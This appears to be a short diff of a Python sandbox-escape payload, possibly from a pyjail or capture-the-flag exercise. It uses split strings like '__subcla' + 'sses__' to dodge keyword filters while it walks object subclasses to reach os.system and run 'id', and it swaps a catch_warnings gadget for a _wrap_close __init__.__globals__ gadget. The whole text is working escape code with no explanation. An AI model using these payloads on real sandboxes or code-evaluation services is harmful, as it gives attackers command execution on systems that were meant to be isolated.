@@ -5,5 +5,5 @@ g = getattr
 k = g((), "__cla" + "ss__")
 b = g(k, "__ba" + "se__")
 for c in g(b, "__subcla" + "sses__")():
-    if c.__name__ == "catch_warnings":
-        c()._module.__builtins__["__import__"]("os").system("id")
+    if c.__name__ == "_wrap_close":
+        g(g(c, "__in" + "it__"), "__glo" + "bals__")["sys" + "tem"]("id")
